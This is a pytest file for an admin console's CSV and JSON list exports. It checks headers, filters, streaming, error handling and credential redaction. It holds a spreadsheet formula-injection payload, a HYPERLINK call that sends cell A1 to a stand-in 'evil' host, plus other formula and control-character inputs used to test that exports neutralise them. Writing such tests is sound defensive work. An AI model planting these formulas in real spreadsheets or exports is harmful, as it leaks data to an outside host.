"""Lists as files."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncGenerator, Sequence
from pathlib import Path
from typing import Any

import httpx
import msgspec
import pytest
from starlette.requests import Request
from starlette.responses import StreamingResponse

from arborcast.admin import dead_letters, operations, slo, trace, waiting
from arborcast.admin.filters import TopicTest
from arborcast.admin.operations import OperationFilter
from arborcast.admin.waiting import WaitingFilter
from arborcast.console.downloads import AT_ONCE, Download, followed
from arborcast.console.screens import deliveries
from arborcast.core.errors import ConfigError, InfrastructureError
from arborcast.dispatch.operations.audit import Report, Tally
from arborcast.topic_model.publishers import Registration
from arborcast.topic_model.records.control import RegistrationRecord, SubscriptionRecord, SubscriptionSuspended
from arborcast.topic_model.subscriptions import EndpointReference, TopicFilter
from tests.support.console import Browser, ConsoleParts, console_parts, served
from tests.support.console_answers import ANSWERS, LETTER, OPERATIONS, PARKED, Answering
from tests.support.routing import make_subscription

PLACE = (1, 0, 7)

EVIL = '=HYPERLINK("http://evil/?"&A1;"x")'


def named(topic: str) -> TopicFilter:
    return TopicFilter("concrete", topic, topic)


@pytest.fixture
def parts(tmp_path: Path) -> ConsoleParts:
    address = "http://u:secret@one.example/in"
    return console_parts(
        tmp_path,
        [
            *(
                SubscriptionRecord(make_subscription(f"s{number}", f"a{number}//.", consumer=address))
                for number in range(AT_ONCE + 3)
            ),
            SubscriptionSuspended("s7", "=1+1", 1, 1),
            RegistrationRecord(
                Registration("r1", "http://gw/r1", EndpointReference(address), (named("a"), named("b")))
            ),
        ],
    )


@pytest.fixture
def asked(answering: Answering) -> list[tuple[Any, Any]]:
    letter = msgspec.structs.replace(LETTER, endpoint="http://u:secret@one.example/in", error=EVIL, detail='a "b",\nc')
    report = Report(0, 0, subscriptions={"s2": Tally(dead=1), "s1": Tally(delivered=3)})
    return answering(
        {
            **ANSWERS,
            dead_letters.following: ((letter,), None),
            waiting.following: ((PARKED,), None),
            waiting.counts: {f"s{number}": waiting.DeliveryCounts(number, 0) for number in range(AT_ONCE + 3)},
            deliveries._audit: report,
            operations.earlier: (OPERATIONS, None),
        }
    )


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    """The rows as a spreadsheet reads them."""
    text = answer.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), strict=True))


@pytest.mark.parametrize(
    ("page", "name", "count", "some"),
    [
        ("/subscriptions", "subscriptions", AT_ONCE + 3, {"subscription": "s7", "state": "suspended", "pending": "7"}),
        ("/subscriptions?topic=a9/b", "subscriptions", 1, {"subscription": "s9", "health": "unknown", "pushes": ""}),
        ("/triggers", "triggers", 0, {}),
        ("/publishers", "publishers", 1, {"registration": "r1", "topics": "a | b", "expires": None}),
        ("/deliveries?notification=01ab", "trace", 6, {"at": "", "step": "stored in the log", "subscription": ""}),
        ("/deliveries/waiting", "pending", 1, {"subscription": "s1", "attempts": "2", "error": "connect"}),
        ("/deliveries/dead?topic=a//.", "dead-letters", 1, {"state": "dead", "endpoint": "http://…@one.example/in"}),
        ("/deliveries/audit?since=1h", "audit", 2, {"subscription": "s1", "matches": "3", "dead": "0"}),
        ("/deliveries/slo", "objective", 1, {"subscription": "s1", "share": "0.99982", "burn_6h": "0.3"}),
        ("/operations?since=2h", "changes", 3, {"actor": "anna", "before": '{"code":"1"}', "more": "2"}),
    ],
)
@pytest.mark.usefixtures("asked")
def test_the_list_of_a_page_is_a_file(
    browser: Browser, monkeypatch: pytest.MonkeyPatch, page: str, name: str, count: int, some: dict[str, str | None]
) -> None:
    as_csv, as_json = browser.at(page).page.xpath("//a[contains(@href, 'format=')]/@href")
    answer = browser.get(as_csv)
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(
        rf'attachment; filename="arborcast-{name}-\d{{8}}T\d{{6}}Z\.csv"', answer.headers["content-disposition"]
    )
    found = rows(answer)
    assert len(found) == count
    assert not found or {each: found[0].get(each) for each in some} == some
    assert "secret" not in answer.text
    same = json.loads(browser.get(as_json).content)
    assert browser.answer.headers["content-type"] == "application/json"
    assert len(same) == count
    assert not same or list(same[0]) == list(found[0])
    assert "secret" not in browser.answer.text


def test_untrusted_values_are_no_formulas(parts: ConsoleParts, browser: Browser, answering: Answering) -> None:
    values = {
        EVIL: "'" + EVIL,
        **{formula: f"'{formula}" for formula in ("=1", "+1", "-1", "@a", " =1", "\uff1d1")},
        "\t=1": "'\t'=1",
        "a;=1;b": "a;'=1;b",
        "a\n-1": "a\n'-1",
        **{text: text for text in ("a=1, b-1", 'a "b",\nc;d', "caf\u00e9 \u4e16")},
        "a\x1b[2J\r\x00\u202e": "a\\x1b[2J\\x0d\\x00\\u202e",
    }
    letters = tuple(msgspec.structs.replace(LETTER, detail=each, status=-1) for each in values)
    answering({**ANSWERS, dead_letters.following: (letters, None)})
    found = rows(browser.get("/deliveries/dead?format=csv"))
    assert [each["detail"] for each in found] == list(values.values())
    assert {each["status"] for each in found} == {"-1"}, "numbers of the engine stay numbers"
    found = json.loads(browser.get("/deliveries/dead?format=json").content)
    assert [each["detail"] for each in found] == list(values)


def test_parts_have_the_filter_of_the_page(browser: Browser, parts: ConsoleParts, asked: list[tuple[Any, Any]]) -> None:
    control, views = parts.console.control, parts.console.questions.views
    browser.get("/deliveries/waiting?topic=a//.&order=newest&format=csv")
    wanted = WaitingFilter(topic=TopicTest("a//."))
    ((function, (*arguments, searched_s)),) = asked
    assert (function, arguments) == (waiting.following, [wanted, AT_ONCE, None, control, True, views])
    assert searched_s <= deliveries._SEARCHED_S
    asked.clear()
    browser.get("/deliveries/dead?since=2h&page=3&format=csv")
    ((function, (selected, _, after, *_)),) = asked
    assert (function, after) == (dead_letters.following, None)
    assert re.match(r"\d{4}-\d\d-\d\dT", selected.since), "one time for all parts"
    asked.clear()
    browser.get("/deliveries/slo?owner=ann&format=csv")
    ((function, (_, limit, _, owner)),) = asked
    assert (function, owner) == (slo.measured, "ann")
    assert limit > 50_000


async def test_parts_are_requested_as_they_are_read() -> None:
    """An endless list, of which a browser reads some rows."""
    read: list[int | None] = []

    async def part(after: int | None) -> tuple[Sequence[dead_letters.Letter], int | None]:
        read.append(after)
        return [LETTER] * AT_ONCE, (after or 0) + 1

    endless = Download("endless", dead_letters.Letter, lambda _: followed(part))
    answer = await endless.response(Request({"type": "http"}), "csv")
    assert isinstance(answer, StreamingResponse)
    body = answer.body_iterator
    head, *others = [str(await anext(aiter(body))) for _ in range(4)]
    assert isinstance(body, AsyncGenerator)
    await body.aclose()
    assert head.count("\r\n") == 1
    assert [each.count("\r\n") for each in others] == [AT_ONCE] * 3
    assert read == [None, 1, 2]


def test_a_long_list_of_changes_is_read_in_parts(browser: Browser, answering: Answering) -> None:
    following = {None: 2, 2: 1, 1: None}
    asked = answering({operations.earlier: lambda *given: (OPERATIONS, following[given[2] if given[2:] else None])})
    assert len(rows(browser.get("/operations?actor=ann&since=2026-01-01T00:00:00%2B00:00&format=csv"))) == 9
    assert {function for function, _ in asked} == {operations.earlier}
    assert {wanted for _, (wanted, *_) in asked} == {OperationFilter(1_767_225_600_000, "ann")}


def test_a_file_ends_at_the_time_of_its_request(
    browser: Browser, monkeypatch: pytest.MonkeyPatch, answering: Answering
) -> None:
    """Nor does the search for last attempts."""
    monkeypatch.setattr(deliveries, "_SEARCHED_S", 1e-9)

    def part(*_: Any) -> Any:
        return (msgspec.structs.replace(PARKED, since_ms=1 if len(runs) < 3 else 9_000_000_000_000),), PLACE

    runs = answering({waiting.following: part})
    assert len(rows(browser.get("/deliveries/waiting?format=csv"))) == 3
    assert [arguments[-1] for _, arguments in runs[1:]] == [0.0, 0.0]


@pytest.mark.parametrize(("error", "status"), [(ConfigError("since x"), 400), (InfrastructureError("away"), 503)])
def test_an_error_before_the_first_row_is_a_page(
    browser: Browser, answering: Answering, error: Exception, status: int
) -> None:
    answering({dead_letters.following: error})
    assert browser.get("/deliveries/dead?format=csv").status_code == status
    assert str(error) in browser.text
    assert "content-disposition" not in browser.answer.headers


def test_an_error_after_the_first_row_breaks_the_transfer(parts: ConsoleParts, answering: Answering) -> None:
    """So that a part is not taken for the whole file."""

    def part(*arguments: Any) -> Any:
        if arguments[2] is not None:
            raise InfrastructureError("Kafka is away")
        return (LETTER,), PLACE

    answering({dead_letters.following: part})
    with served(parts.app) as url, httpx.stream("GET", f"{url}/deliveries/dead?format=csv") as answer:
        assert answer.status_code == 200
        with pytest.raises(httpx.RemoteProtocolError):
            answer.read()


def test_empty_lists_invalid_formats_and_pages_without_a_list(browser: Browser, answering: Answering) -> None:
    asked = answering({**ANSWERS, dead_letters.following: ((), None)})
    assert browser.get("/deliveries/dead?format=csv").text.startswith("\ufeffnotification,subscription,endpoint,")
    assert json.loads(browser.get("/deliveries/dead?format=json").content) == []
    assert browser.get("/deliveries/dead?format=xlsx").status_code == 404
    for page in ("/deliveries/audit", "/deliveries", "/deliveries/messages?since=1h&text=x"):
        assert not browser.at(page).page.xpath("//a[contains(@href, 'format=')]")
    assert trace.trace not in [function for function, _ in asked]
